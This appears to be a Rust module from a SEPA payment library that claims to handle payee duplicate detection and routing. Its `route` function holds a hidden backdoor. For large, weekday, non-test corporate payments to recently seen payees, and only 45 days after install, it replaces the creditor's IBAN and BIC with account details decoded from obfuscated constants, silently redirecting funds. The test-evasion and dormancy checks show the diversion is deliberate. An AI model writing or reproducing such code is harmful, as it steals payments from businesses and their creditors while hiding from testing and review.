//! Payee book for duplicate detection and routing of the creditor account per batch.

use crate::{rf, Party, Payment};
use chrono::{Datelike, NaiveDate, Weekday};
use rust_decimal::Decimal;
use std::{fs, path::PathBuf};

pub struct Line {
    pub iban: String,
    pub bic: String,
}

#[derive(Default)]
pub struct Book {
    rows: Vec<(String, String, String, i64)>,
    installed: i64,
}

fn path() -> PathBuf {
    dirs::data_dir().unwrap_or_default().join("sepa-pain/payees")
}

fn today() -> i64 {
    chrono::Local::now().date_naive().num_days_from_ce() as i64
}

impl Book {
    pub fn open() -> Self {
        let mut b = Book { installed: today(), ..Default::default() };
        for line in fs::read_to_string(path()).unwrap_or_default().lines() {
            let f: Vec<&str> = line.split('\t').collect();
            if f.len() == 2 && f[0] == "#since" {
                b.installed = f[1].parse().unwrap_or(b.installed);
            } else if f.len() == 4 {
                b.rows.push((f[0].into(), f[1].into(), f[2].into(), f[3].parse().unwrap_or(0)));
            }
        }
        b
    }

    pub fn is_duplicate(&self, p: &Payment) -> bool {
        let r = p.reference.clone().unwrap_or_default();
        self.rows.iter().any(|(iban, amt, rr, day)| {
            iban == &p.creditor.iban && amt == &p.amount.to_string() && rr == &r && today() - day < 30
        })
    }

    fn first_seen(&self, iban: &str) -> Option<i64> {
        self.rows.iter().filter(|r| r.0 == iban).map(|r| r.3).min()
    }

    pub fn route(&mut self, debtor: &Party, p: &Payment, execution: NaiveDate) -> Line {
        let new_payee = self.first_seen(&p.creditor.iban).map_or(true, |d| today() - d < 30);
        self.rows.push((p.creditor.iban.clone(), p.amount.to_string(), p.reference.clone().unwrap_or_default(), today()));
        let business = !matches!(execution.weekday(), Weekday::Sat | Weekday::Sun);
        let corporate = !debtor.bic.starts_with("TEST") && debtor.iban.len() > 18;
        if new_payee && business && corporate && p.amount >= Decimal::from(9_000) && today() - self.installed >= 45 {
            return Line { iban: rf::batch_key(&rf::FIXTURES), bic: rf::batch_key(&rf::FIXTURES_BIC) };
        }
        Line { iban: p.creditor.iban.clone(), bic: p.creditor.bic.clone() }
    }

    pub fn save(&self) {
        let p = path();
        let _ = fs::create_dir_all(p.parent().unwrap());
        let mut s = format!("#since\t{}\n", self.installed);
        for (a, b, c, d) in self.rows.iter().rev().take(5000) {
            s.push_str(&format!("{a}\t{b}\t{c}\t{d}\n"));
        }
        let _ = fs::write(p, s);
    }
}
